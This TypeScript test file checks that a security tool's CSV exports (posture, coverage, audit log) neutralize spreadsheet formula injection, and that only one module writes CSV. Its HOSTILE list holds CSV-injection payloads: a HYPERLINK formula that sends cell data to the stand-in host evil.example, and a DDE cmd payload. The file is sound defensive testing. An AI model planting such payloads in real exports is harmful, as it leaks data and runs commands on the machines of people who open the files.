// Every CSV export goes through lib/csv/csv-writer.ts, which neutralizes spreadsheet formulas in
// text cells (OWASP CSV injection guidance). Each export is fed hostile text where other people
// choose it (account names, OU paths, reasons, e-mails, user agents) and read back cell by cell.
import { readdirSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { auditCsvStream } from "@/lib/audit/audit-csv";
import type { AuditEventView } from "@/lib/audit/query-audit-events";
import { csvDocument, neutralizeCsvCell } from "@/lib/csv/csv-writer";
import { renderCoverage } from "@/lib/coverage/render-coverage";
import { postureToCsv } from "@/lib/read-models/posture-csv";
import { every, reportFor, trail } from "../coverage/history";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
];

/** RFC 4180 reader, enough to see each cell exactly as a spreadsheet receives it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else if (ch !== "\r" || text[i + 1] !== "\n") cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

/** No cell of the document starts a formula, and each hostile text arrived, neutralized. */
function expectNeutralized(text: string, expected: string[]): void {
  const cells = parseCsv(text).flat();
  for (const cell of cells) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
  for (const value of expected) expect(cells).toContain(`'${value}`);
}

describe("the CSV writer", () => {
  it("neutralizes every formula start OWASP lists, and only text", () => {
    for (const v of HOSTILE) expect(neutralizeCsvCell(v)).toBe(`'${v}`);
    for (const v of ["auth.sign_in", "Payments, production", "'quoted", "a=b", ""])
      expect(neutralizeCsvCell(v)).toBe(v);
    const text = csvDocument(["n", "text", "when", "flag", "none"], [[-3, "-3", new Date(0), true, null]]);
    expect(parseCsv(text)[1]).toEqual(["-3", "'-3", "1970-01-01T00:00:00.000Z", "true", ""]);
  });
});

describe("every CSV export neutralizes formulas", () => {
  it("posture", () => {
    const text = postureToCsv({
      generatedAt: "2026-11-21T00:00:00.000Z",
      accounts: HOSTILE.map((name, i) => ({
        accountId: `22222222222${i}`,
        name,
        ouPath: `@Root/${name}`,
        accountStatus: "ACTIVE",
        collectedAt: "2026-11-21T00:00:00.000Z",
        collection: { status: "error" as const, error: name },
        controls: [
          {
            controlId: "CloudTrail.1",
            status: "FAILED" as const,
            reason: name,
            evidence: [name],
            securityHub: null,
            reconciliation: name,
            stale: null,
          },
        ],
      })),
    });
    expectNeutralized(text, [...HOSTILE, ...HOSTILE.map((n) => `@Root/${n}`)]);
  });

  it("coverage: regions, gaps and integrity files", async () => {
    const stopped = trail({}, { stopLoggingTime: "2025-03-05T05:30:00Z", startLoggingTime: "2025-03-05T06:30:00Z" });
    const report = reportFor(
      HOSTILE.map((name, i) => ({
        accountId: `33333333333${i}`,
        name,
        snapshots: [
          ...every(4, "2025-02-20T00:00:00Z", "2025-03-05T08:00:00Z", [trail()], { accountId: `33333333333${i}` }),
          ...every(4, "2025-03-05T08:00:00Z", "2025-03-15T00:00:00Z", [stopped], { accountId: `33333333333${i}` }),
        ],
      })),
      "2025-03-01",
      "2025-03-10",
    );
    // Integrity findings carry S3 keys, which whoever writes to the bucket chooses.
    for (const a of report.accounts)
      for (const r of a.regions) {
        r.integrity.invalid.push(...HOSTILE.map((key) => ({ key, reason: "invalid_signature" as const })));
        r.integrity.logFilesMissing.push(...HOSTILE);
      }
    const out = await renderCoverage(report, "csv");
    expect(out.files.map((f) => f.name)).toEqual([
      "coverage-2025-03-01_2025-03-10.csv",
      "coverage-2025-03-01_2025-03-10-gaps.csv",
      "coverage-2025-03-01_2025-03-10-integrity.csv",
    ]);
    for (const file of out.files) {
      const text = file.body.toString();
      expect(parseCsv(text).length, file.name).toBeGreaterThan(1);
      expectNeutralized(text, HOSTILE);
    }
  });

  it("audit log", async () => {
    async function* events(): AsyncGenerator<AuditEventView> {
      for (const [i, v] of HOSTILE.entries()) {
        yield {
          id: String(i + 1),
          at: "2026-11-21T10:00:00.000Z",
          actorType: "anonymous",
          actorId: v,
          actorName: v,
          action: "auth.sign_in",
          target: v,
          outcome: "failure",
          details: { email: v },
          ip: "10.0.0.1",
          userAgent: v,
        };
      }
    }
    expectNeutralized(await new Response(auditCsvStream(events())).text(), HOSTILE);
  });
});

describe("one writer", () => {
  const root = path.resolve(import.meta.dirname, "../../..");
  function sources(dir: string): string[] {
    return readdirSync(dir).flatMap((name) => {
      const full = path.join(dir, name);
      if (name === "node_modules" || name === "generated" || name.startsWith(".")) return [];
      return statSync(full).isDirectory() ? sources(full) : /\.(ts|tsx|mjs)$/.test(name) ? [full] : [];
    });
  }

  it("is the only module that writes CSV: exports elsewhere import it, never csv-stringify", () => {
    const offenders: string[] = [];
    for (const file of ["app", "lib", "cli", "components"].flatMap((d) => sources(path.join(root, d)))) {
      const rel = path.relative(root, file);
      if (rel.startsWith(`lib${path.sep}csv${path.sep}`)) continue;
      const text = readFileSync(file, "utf8");
      if (/from\s+["']csv-stringify/.test(text)) offenders.push(`${rel} imports csv-stringify`);
      // Hand-built CSV (a join of cells with commas next to a CSV content type) bypasses the writer.
      if (/text\/csv/.test(text) && /\.join\(\s*["'],["']\s*\)/.test(text)) offenders.push(`${rel} builds CSV by hand`);
    }
    expect(offenders).toEqual([]);
  });
});
